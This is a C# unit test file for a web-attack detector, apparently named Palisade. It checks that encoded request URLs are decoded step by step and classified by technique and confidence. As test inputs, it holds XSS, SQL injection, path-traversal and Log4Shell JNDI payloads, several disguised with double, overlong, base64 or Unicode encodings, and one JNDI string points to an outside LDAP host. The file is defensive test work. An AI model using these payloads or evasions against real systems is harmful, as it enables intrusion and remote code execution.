using System.Text;
using Palisade.Engine.Detect.Web;
using Palisade.Protocol;

namespace Palisade.Engine.Tests.Detect.Web;

public sealed class EvidenceTests
{
    private static WebEvidence Explain(string target)
    {
        var verdict = WebSamples.Judge(target)!.Value;
        return WebSamples.Detector.Explain(verdict.Rule.Id, Fields.UrlOriginal, Encoding.UTF8.GetBytes(target), verdict.Offset, verdict.Length)!;
    }

    private static string[] By(WebEvidence evidence) => [.. evidence.Steps.Select(s => string.Join('+', s.By))];

    [Fact]
    public void A_value_encoded_twice_is_shown_round_by_round_with_its_own_case()
    {
        var how = Explain("/a?q=%253CsCript%253Ealert(1)%253C/script%253E");
        Assert.Equal("%253CsCript%253Ealert(1)%253C/script%253E", how.Sent);
        Assert.Equal(["url", "url"], By(how));
        Assert.Equal("%3CsCript%3Ealert(1)%3C/script%3E", how.Steps[0].Text);
        Assert.Equal("<sCript>alert(1)</script>", how.Steps[1].Text);
        Assert.Contains("script", how.Match, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("/a?q=%u003cscript%u003econfirm(1)", "percent_u", "<script>confirm(1)")]
    [InlineData("/a?q=\\x3Cscript\\x3Econfirm(1)", "escape", "<script>confirm(1)")]
    [InlineData("/a?q=%26lt;script%26gt;confirm(1)", "url html", "<script>confirm(1)")]
    [InlineData("/a?q=JHtqbmRpOmxkYXA6Ly8xOTguNTEuMTAwLjcvYX0=", "base64", "${jndi:ldap://198.51.100.7/a}")]
    [InlineData("/a?id=1/**/UnIoN/**/SeLeCt/**/1,2", "sql_comment", "1 union select 1,2")]
    [InlineData("/a?id=1+union+select+1,2", "plus", "1 union select 1,2")]
    [InlineData("/a?id=1%27/*!50000union*/%20select%201", "url sql_comment", "1'union select 1")]
    [InlineData("/a?f=%c0%ae%c0%ae/%c0%ae%c0%ae/keys", "url+overlong", "../../keys")]
    [InlineData("/a?q=JHtqbmRpOmxkYXA6Ly8xOTguNTEuMTAwLjcvYX0%253D", "base64", "${jndi:ldap://198.51.100.7/a}")]
    [InlineData("/a?id=7%E2%80%99%20or%20%E2%80%99k%E2%80%99=%E2%80%99k", "url full_width", "7' or 'k'='k")]
    [InlineData("/a?id=-7'%a0union%a0select%201,2", "url full_width", "-7' union select 1,2")]
    public void Each_disguise_is_named_and_undone(string target, string by, string last)
    {
        var how = Explain(target);
        Assert.Equal(by.Split(' '), By(how));
        Assert.Equal(last, how.Steps[^1].Text);
    }

    [Fact]
    public void Plain_text_needs_no_steps()
    {
        var how = Explain("/a?id=-1 union all select 1,2,3");
        Assert.Empty(how.Steps);
        Assert.Equal("-1 union all select 1,2,3", how.Sent);
    }

    [Fact]
    public void The_technique_says_how_it_was_disguised()
    {
        Assert.Equal("../ sequences with double encoding", WebSamples.Judge("/a?f=..%252f..%252f..%252fkeys")!.Value.Technique);
        Assert.Equal("../ sequences", WebSamples.Judge("/a?f=..%2f..%2f..%2fkeys")!.Value.Technique);
        Assert.Equal("Boolean-based blind", WebSamples.Judge("/item?id=7%20or%204%3D4")!.Value.Technique);
        Assert.EndsWith(" in base64", WebSamples.Judge("/a?q=JHtqbmRpOmxkYXA6Ly8xOTguNTEuMTAwLjcvYX0=")!.Value.Technique, StringComparison.Ordinal);
    }

    [Fact]
    public void More_evidence_is_more_confidence()
    {
        Assert.Equal(FindingConfidence.Medium, WebSamples.Judge("/.git/HEAD")!.Value.Confidence);
        Assert.Equal(FindingConfidence.High, WebSamples.Judge("/item?id=-1+union+all+select+1,2,group_concat(name)+from+information_schema.tables--+")!.Value.Confidence);
    }

    [Fact]
    public void Every_payload_class_has_its_numbers_in_the_public_lists() =>
        Assert.All(WebSamples.Detector.Rules.Where(r => !r.ContextOnly), rule => Assert.NotEmpty(rule.Weaknesses.Concat(rule.AttackPatterns)));

    [Fact]
    public void What_does_not_belong_together_is_not_explained()
    {
        var value = "1 union select 2"u8;
        Assert.Null(WebSamples.Detector.Explain("sigma.some", Fields.UrlQuery, value, 0, value.Length));
        Assert.Null(WebSamples.Detector.Explain("web.sqli", Fields.HostName, value, 0, value.Length));
        Assert.Null(WebSamples.Detector.Explain("web.sqli", Fields.UrlQuery, value, value.Length, 4));
        Assert.Null(WebSamples.Detector.Explain("web.sqli", Fields.UrlQuery, value, 0, 0));
        Assert.NotNull(WebSamples.Detector.Explain("web.sqli", Fields.UrlQuery, value, 2, int.MaxValue));
    }

    [Fact]
    public void Every_step_has_a_name() => Assert.All(WebEvidence.Keys, key => Assert.NotEqual(string.Empty, WebEvidence.NameOf(key)));
}
